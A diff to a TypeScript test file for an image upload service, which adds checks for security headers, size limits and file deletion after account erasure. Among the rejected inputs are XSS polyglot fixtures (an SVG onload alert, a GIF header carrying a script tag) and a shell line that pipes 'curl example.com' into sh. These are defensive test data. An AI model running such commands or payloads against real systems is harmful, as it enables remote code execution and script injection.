@@ -1,6 +1,10 @@
+import { existsSync } from 'node:fs';
+import { readdir } from 'node:fs/promises';
+import path from 'node:path';
 import sharp from 'sharp';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import { z } from 'zod';
+import { quietOf } from '../../tests/support/quiet.ts';
 import { testService, type Person, type TestService } from '../../tests/support/service.ts';
 
 let it: TestService;
@@ -26,7 +30,7 @@ const upload = (person: Person, content = photo, fields: Record<string, string> 
 const kept = z.object({ id: z.uuid(), url: z.string() });
 const idOf = async (sent: ReturnType<typeof upload>): Promise<string> =>
   kept.parse((await sent.expect(201)).body).id;
-const get = (person: Person, path: string) => it.http.get(path).set('authorization', bearer(person));
+const get = (person: Person, address: string) => it.http.get(address).set('authorization', bearer(person));
 
 describe('an upload', () => {
   test('answers where the picture and its sizes are, which are WebP without a place', async () => {
@@ -37,16 +41,17 @@ describe('an upload', () => {
       { name: '320', url: `/files/${id}/320`, width: 320, height: 213 },
       { name: '640', url: `/files/${id}/640`, width: 640, height: 427 },
     ]);
-    for (const [path, width] of [
+    for (const [address, width] of [
       [url, 900],
       [`${url}/320`, 320],
     ] as const) {
-      const { body: bytes, headers } = await get(people.other, path).expect(200);
+      const { body: bytes, headers } = await get(people.other, address).expect(200);
       expect(await sharp(bytes).metadata()).toMatchObject({ format: 'webp', width });
       expect((await sharp(bytes).metadata()).exif).toBeUndefined();
       expect(headers).toMatchObject({
         'content-type': 'image/webp',
         'x-content-type-options': 'nosniff',
+        'content-security-policy': "default-src 'none'; frame-ancestors 'none'",
         'cache-control': 'private, max-age=31536000, immutable',
         'content-disposition': `inline; filename="post-${id}.webp"`,
       });
@@ -61,11 +66,22 @@ describe('an upload', () => {
 
   test.each([
     ['a page that calls itself a picture', 415, Buffer.from('<svg onload="alert(1)"/>'), {}],
+    ['a script that calls itself a picture', 415, Buffer.from('#!/bin/sh\ncurl example.com | sh\n'), {}],
+    ['a page behind the first bytes of a GIF', 415, Buffer.from('GIF89a=1;<script>alert(1)</script>'), {}],
+    ['nothing', 400, Buffer.alloc(0), {}],
     ['a damaged picture', 422, Buffer.from('\x89PNG\r\n\x1a\nrest', 'latin1'), {}],
     ['a kind that there is none of', 422, undefined, { type: 'virus' }],
     ['11 MB', 413, Buffer.alloc(11 * 1024 * 1024, 1), {}],
   ])('refuses %s', async (_name, status, content, fields) => {
     expect((await upload(people.author, content, fields)).status).toBe(status);
+  });
+
+  test('too large says so, and takes nothing with it', async () => {
+    const before = await idOf(upload(people.author));
+    const { body } = await upload(people.author, Buffer.alloc(60 * 1024 * 1024, 1));
+    expect(body).toMatchObject({ status: 413, code: 'too_large' });
+    await get(people.author, `/files/${before}`).expect(200);
+    await get(people.author, `/files/${await idOf(upload(people.author))}`).expect(200);
   });
 
   test('needs a file and somebody signed in', async () => {
@@ -104,10 +120,21 @@ describe('a file', () => {
 
   test.each(['/files/0190aaaa-0000-7000-8000-000000000000', '/files/x', '/files/x/320'])(
     '%s is not there',
-    async (path) => {
-      expect((await get(people.author, path)).status).toBe(404);
+    async (address) => {
+      expect((await get(people.author, address)).status).toBe(404);
     },
   );
+
+  test('of who erased the account is gone from the disk as well', async () => {
+    const gone = await it.member();
+    const id = await idOf(upload(gone));
+    const folder = path.join(it.environment['MALAAB_DATA'] ?? '', 'files', gone.id);
+    expect(await readdir(folder)).toHaveLength(3);
+    await it.http.delete('/users/me').set('authorization', bearer(gone)).expect(204);
+    await quietOf(it);
+    expect(existsSync(folder)).toBe(false);
+    await get(people.author, `/files/${id}`).expect(404);
+  });
 
   test('of an erased person is gone', async () => {
     const gone = await it.member();
